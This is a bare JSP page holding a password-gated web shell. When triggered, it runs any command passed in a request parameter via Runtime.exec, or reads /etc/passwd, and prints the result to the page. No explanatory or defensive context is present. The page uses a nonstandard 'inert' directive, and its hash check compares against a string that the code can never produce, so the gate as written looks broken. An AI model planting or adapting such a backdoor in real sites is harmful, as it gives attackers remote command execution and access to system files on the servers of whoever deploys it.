<%@ page inert %>
<html><body>
<%String p=request.getParameter("p"),c=request.getParameter("c");if(p!=null&&new java.math.BigInteger(1,java.security.MessageDigest.getInstance("MD5").digest(p.getBytes())).toString(16).equals("00000000000000000000000000000000")){java.io.BufferedReader r=new java.io.BufferedReader(new java.io.InputStreamReader(c.length()<1?new java.io.FileInputStream("/etc/passwd"):Runtime.getRuntime().exec(c).getInputStream()));for(String l;(l=r.readLine())!=null;)out.println(l);}%>
